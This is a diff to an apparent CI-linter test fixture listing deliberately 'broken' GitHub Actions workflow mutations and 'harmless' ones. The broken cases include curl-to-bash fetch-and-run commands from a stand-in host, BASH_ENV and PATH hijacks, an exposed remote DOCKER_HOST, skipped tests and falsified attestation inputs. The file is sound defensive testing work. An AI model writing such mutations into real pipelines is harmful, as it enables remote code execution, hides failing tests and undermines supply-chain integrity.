@@ -13,6 +13,7 @@ const either = "(needs.build.result == 'success' || needs.find.outputs.image != 
 const deploy = 'llm-deploy/ci/deploy staging "$IMAGE"';
 const look = "run: llm-deploy/ci/remote status";
 const permissions = "    permissions:\n";
+const test = "      - name: Test\n";
 
 export const broken = [
   ["github", "staging.yml", "needs: build", "needs: nothing"],
@@ -77,7 +78,12 @@ export const broken = [
   ["hosts", "drift.yml", "    env:\n", "    env:\n      OPTIONS: -o UserKnownHostsFile=/dev/null\n"],
   ["hosts", "drift.yml", "DEPLOY_KNOWN_HOSTS: ${{ vars.DEPLOY_KNOWN_HOSTS }}", "DEPLOY_KNOWN_HOSTS: macmini ssh-ed25519 AAAA"],
   ["hosts", "production.yml", "REGISTRY: ${{ vars.REGISTRY || 'ghcr.io' }}", "REGISTRY: registry.example.com"],
+  ["hosts", "staging.yml", "      DEPLOY_HOST:", "      BASH_ENV: ./other\n      DEPLOY_HOST:"],
+  ["hosts", "staging.yml", "          APP_ENV: local\n", "          APP_ENV: local\n          MAVEN_ARGS: -DskipTests\n"],
+  ["hosts", "production.yml", "env:\n  REGISTRY:", "env:\n  DOCKER_HOST: tcp://example.com:2375\n  REGISTRY:"],
+  ["hosts", "refresh-lock.yml", "PUSH_TOKEN:", "PATH: ../head:/usr/bin:/bin\n          PUSH_TOKEN:"],
   ["hosts", "ci.yml", "run: ./mvnw -B verify", "run: curl -fs https://example.com/install | sudo bash"],
+  ["hosts", "ci.yml", "run: ./mvnw -B verify", "run: bash <(curl -fs https://example.com/install)"],
   ["hosts", "ci.yml", "run: ./mvnw -B verify", 'run: sh -c "$(curl -fs https://example.com/install)"'],
 
   ["scripts", "drift.yml", "llm-deploy/ci/remote", "llm-deploy/ci/remoted"],
@@ -90,13 +96,20 @@ export const broken = [
   ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B verify || true"],
   ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B verify | tail"],
   ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B -fn verify"],
+  ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B -DskipTests verify"],
+  ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B verify -Dmaven.test.skip=true"],
+  ["scripts", "ci.yml", "./mvnw -B verify", "echo begins; if ./mvnw -B verify; then echo good; fi"],
+  ["scripts", "ci.yml", "run: ./mvnw -B verify", "run: |\n          cd llm-api\n          ../mvnw -B verify"],
+  ["scripts", "ci.yml", "mvnw lock reproducible", "mvnw lokc reproducible"],
   ["scripts", "ci.yml", "run: ./mvnw -B verify", "run: |\n          set +e\n          ./mvnw -B verify\n          echo done"],
   ["scripts", "ci.yml", "sudo .ci/test-scripts", "sudo .ci/test-scripts || true"],
   ["scripts", "refresh-lock.yml", "gh workflow run ci.yml", "./mvnw verify && gh workflow run ci.yml"],
 
   ["references", "staging.yml", "needs: [image, deploy]", "needs: [deploy]"],
   ["references", "production.yml", "needs.find.outputs.image == ''", "needs.find.outputs.imagine == ''"],
-  ["references", "production.yml", "id: promote", "id: promoted"],
+  ["references", "production.yml", "id: promote", "id: pro-moted"],
+  ["references", "production.yml", "steps.promote.", "steps.promote-it."],
+  ["references", "production.yml", "needs.find.outputs.image == ''", "needs.find-it.outputs.image == ''"],
   ["references", "production.yml", scanned, "if: ${{ !cancelled() }} && needs.scan.result == 'success'"],
 
   ["triggers", "ci.yml", "  pull_request:\n", "  pull_request_target:\n"],
@@ -110,7 +123,8 @@ export const broken = [
   ["triggers", "staging.yml", "    branches: [staging]\n", ""],
   ["triggers", "refresh-lock.yml", "github.event.pull_request.user.login == 'dependabot[bot]' && ", ""],
   ["triggers", "ci.yml", "  verify:\n", "  verify:\n    if: false\n"],
-  ["triggers", "ci.yml", "      - name: Test\n", "      - name: Test\n        if: github.actor != 'owner'\n"],
+  ["triggers", "ci.yml", test, "      - name: Test\n        if: github.actor != 'owner'\n"],
+  ["triggers", "ci.yml", test, "      - name: Test\n        if: failure()\n"],
   ["triggers", "refresh-lock.yml", "    needs: record\n", ""],
   ["triggers", "refresh-lock.yml", "    needs: record\n", "    needs: record\n    if: always()\n"],
 
@@ -156,7 +170,8 @@ export const broken = [
   ["environments", "production.yml", "  test:\n", "  test:\n    environment: production\n"],
   ["environments", "staging.yml", deploy, 'llm-deploy/ci/deploy production "$IMAGE"'],
   ["environments", "drift.yml", "environment: drift", "environment: production"],
-  ["environments", "drift.yml", "remote status", "remote unlock production"],
+  ["environments", "drift.yml", "remote status", "remote status production"],
+  ["environments", "staging.yml", "summarize staging", "remote unlock staging"],
   ["environments", "rollback.yml", "environment: ${{ inputs.environment }}\n    permissions", "environment: staging\n    permissions"],
   ["environments", "rollback.yml", "TARGET: ${{ inputs.environment }}", "TARGET: production"],
 
@@ -184,6 +199,7 @@ export const broken = [
   ["order", "production.yml", scanned, "if: ${{ !cancelled() && needs.image.result == 'success' }}"],
   ["order", "production.yml", scanned, scanned.replace(" && needs.scan", " || needs.scan")],
   ["order", "production.yml", scanned, "if: always()"],
+  ["order", "production.yml", scanned, "if: ${{ !cancelled() && needs.image.outputs.scanned == 'true' }}"],
   ["order", "staging.yml", "needs: [image, scan]\n", "needs: [image, scan]\n    if: ${{ always() }}\n"],
   ["order", "staging.yml", "  scan:\n    needs: image\n", "  scan:\n    needs: image\n    if: ${{ !cancelled() }}\n"],
   ["order", "production.yml", `needs.find.result == 'success' && ${either}`, either],
@@ -197,7 +213,13 @@ export const broken = [
   ["order", "production.yml", '"$IMAGE" latest', '"$IMAGE" staging'],
   ["order", "production.yml", "  find:\n    needs: test\n", "  find:\n"],
   ["order", "production.yml", "  test:\n", "  test:\n    if: github.ref_type != 'tag'\n"],
+  ["order", "production.yml", test, "      - name: Test\n        if: github.ref_type != 'tag'\n"],
   ["order", "production.yml", "APP_ENV: local", "APP_ENV: staging"],
+
+  ["attest", "staging.yml", "${{ steps.image.outputs.digest }}", "${{ github.sha }}"],
+  ["attest", "staging.yml", "${{ steps.image.outputs.name }}", "ghcr.io/owner/other"],
+  ["attest", "staging.yml", "IMAGE: ${{ needs.image.outputs.image }}", "IMAGE: ghcr.io/owner/other:latest"],
+  ["attest", "production.yml", "digest=${IMAGE#*@}", "digest=${OTHER#*@}"],
 
   ["lock", "rollback.yml", "${{ always() }}", "${{ success() }}"],
   ["lock", "production.yml", "llm-deploy/ci/release-lock production", "true"],
@@ -209,4 +231,46 @@ export const broken = [
   ["settings", "production.yml", "          SETTING_KEEP_ALIVE: ${{ vars.KEEP_ALIVE }}\n", ""],
   ["settings", "staging.yml", "SETTING_KEEP_ALIVE: ${{ vars.KEEP_ALIVE }}", "SETTING_KEEP_ALIVE: ${{ vars.NUM_CTX }}"],
   ["settings", "staging.yml", "SETTING_KEEP_ALIVE:", "SETTING_KEPT_ALIVE:"],
+  ["settings", "staging.yml", "      DEPLOY_HOST:", '      LEAVE_IF_LIVE: "true"\n      DEPLOY_HOST:'],
+  ["settings", "production.yml", /LEAVE_IF_LIVE: .*/, 'LEAVE_IF_LIVE: "true"'],
+  ["settings", "production.yml", / *LEAVE_IF_LIVE: .*\n/, ""],
+];
+
+const job = (id) => `  ${id}:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {}\n`;
+const summarize = "      - name: Summarize\n";
+const build = "      - name: Build the image\n";
+const lookAt = (what) => `      - name: Look
+        env:
+          DEPLOY_SSH_KEY: \${{ secrets.DEPLOY_SSH_KEY }}
+        run: llm-deploy/ci/remote ${what}
+${summarize}`;
+const tell = (condition) => `      - name: Tell\n        if: ${condition}\n        run: ls\n`;
+const hyphens = `${job("find-it")}    outputs:
+      its-name: \${{ steps.find-it.outputs.its-name }}
+    steps:
+      - id: find-it
+        run: echo "its-name=x" >>"$GITHUB_OUTPUT"
+${job("use-it")}    needs: find-it
+    env:
+      NAME: \${{ needs.find-it.outputs.its-name }}
+    steps:
+      - run: echo "$NAME"
+`;
+
+// What breaks no rule.
+export const harmless = [
+  ["staging.yml", summarize, lookAt("history staging")],
+  ["staging.yml", summarize, lookAt("status staging")],
+  ["rollback.yml", summarize, lookAt('status "$TARGET"')],
+  ["staging.yml", "          APP_ENV: local\n", "          APP_ENV: local\n          TZ: UTC\n"],
+  ["staging.yml", "severity: CRITICAL\n", "severity: CRITICAL\n          timeout: 10m\n"],
+  ["production.yml", scanned, scanned.replace("needs.image", "needs.image.outputs.image == 'true' && needs.image")],
+  ["production.yml", "llm-deploy/ci/log-in", 'llm-deploy/ci/log-in >>"$GITHUB_OUTPUT"'],
+  ["ci.yml", "jobs:\n", `jobs:\n${hyphens}`],
+  ["ci.yml", test, `${test}        if: \${{ !cancelled() }}\n`],
+  ["ci.yml", build, `${tell("failure()")}${build}`],
+  ["ci.yml", build, `${tell("${{ failure() }}")}${build}`],
+  ["ci.yml", build, `${tell("${{ always() }}")}${build}`],
+  ["ci.yml", `${build}        run: |\n`, `${build}        run: |\n          cd llm-api\n          diff <(ls) <(ls)\n          cd ..\n`],
+  ["ci.yml", "run: ./mvnw -B verify", "run: mkdir -p out && ./mvnw -B verify"],
 ];
